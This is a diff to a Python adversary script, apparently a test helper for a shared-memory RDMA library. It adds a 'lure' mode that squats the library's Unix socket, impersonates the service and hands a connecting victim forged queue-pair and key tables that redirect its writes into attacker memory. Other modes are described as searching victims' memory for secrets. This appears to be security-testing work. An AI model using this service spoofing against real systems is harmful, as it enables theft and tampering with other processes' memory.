@@ -7,6 +7,7 @@ It connects to @anyrdma/4791/<slot>/memory, says HELLO with a ring of its own, a
     take   says what it was passed, searches it for the victim's secrets, overwrites what it can map
     act    proves access, then says that it acts in the victim's memory, and never that it is done
     write  puts frames into its ring
+    lure   listens itself, and exports memory of its own as if it lay in a file that it does not have
 
 It answers with one line of JSON, and stays until its standard input ends. Nothing here comes from the library.
 """
@@ -201,9 +202,67 @@ def write(task):
     return {"version": c.version, "frames": c.ring.head}
 
 
+# ---- one that is connected to ----
+BELL_MAGIC, BELL_SIZE = 0x6C6C6562, 128
+FILES, QPS, KEYS, EXPORT_SIZE = 64, 16448, 1392704, 23674944  # where the tables of an export begin, and its end
+
+
+def shown(name, size):
+    fd = os.memfd_create(name, os.MFD_CLOEXEC | os.MFD_ALLOW_SEALING)
+    os.ftruncate(fd, size)
+    fcntl.fcntl(fd, 1033, 2 | 4)
+    return fd
+
+
+def forge_export(task, host):
+    """One queue pair and one key, in every place of the first level, so that nobody has to know how they are found."""
+    fd = shown("export", EXPORT_SIZE)
+    file = struct.pack("<IIiIQQ", 2, 1, -1, 0, task["dev"], task["inode"])
+    gid = bytes.fromhex(task["gid"])
+    qp = struct.pack("<IIII16s16sIIQ", 2, task["qpn"], task["peer_qpn"], task["peer_psn"], gid, gid, 1, 15, 0)
+    key = struct.pack("<IIIHHQQQQQQ", 2, task["rkey"], 1, 15, 1, host, 4096, host, host, 0, 4096)
+    os.pwrite(fd, struct.pack("<I", 1), 0)        # somebody holds it: alive
+    os.pwrite(fd, struct.pack("<III", 1, 1, 1), 40)  # a change; levels
+    os.pwrite(fd, file, FILES)
+    os.pwrite(fd, qp * 1024, QPS)
+    os.pwrite(fd, key * 4096, KEYS)
+    return fd
+
+
+def serve(task, caller, nonce, page):
+    """Until it goes away, or we are told to."""
+    bell = shown("bell", BELL_SIZE)
+    os.pwrite(bell, struct.pack("<IIQ", BELL_MAGIC, 4, 1), 0)
+    while caller in select.select([caller, sys.stdin], [], [])[0]:
+        data, fds, _, _ = socket.recv_fds(caller, 4096, 8)
+        if not data:
+            return
+        task["kept"] += fds
+        kind = WORD.unpack(data)[2] if len(data) == WORD.size else 0
+        if kind == HELLO:
+            word = WORD.pack(MAGIC, 3, WELCOME, task["slot"], ctypes.addressof(nonce), 0, b"")
+            socket.send_fds(caller, [word], [bell])
+        elif kind == PROOF:
+            socket.send_fds(caller, [Connection.word(EXPORT)], [forge_export(task, ctypes.addressof(page))])
+            print(json.dumps({"exported": 1}), flush=True)
+
+
+def lure(task):
+    listener = socket.socket(socket.AF_UNIX, socket.SOCK_SEQPACKET)
+    listener.bind(f"\0anyrdma/4791/{task['slot']}/memory")
+    listener.listen()
+    memory = mmap.mmap(-1, 4096)
+    page, nonce = (ctypes.c_char * 4096).from_buffer(memory), ctypes.create_string_buffer(32)
+    memory[:] = b"m" * 4096
+    print(json.dumps({"addr": ctypes.addressof(page)}), flush=True)
+    task["kept"] = [memory]
+    serve(task, listener.accept()[0], nonce, page)
+    return {"written": memory[:64].count(0)}
+
+
 def main():
     task = json.loads(sys.argv[2])
-    print(json.dumps({"take": take, "act": act, "write": write}[sys.argv[1]](task)), flush=True)
+    print(json.dumps({"take": take, "act": act, "write": write, "lure": lure}[sys.argv[1]](task)), flush=True)
     sys.stdin.read()
 
 
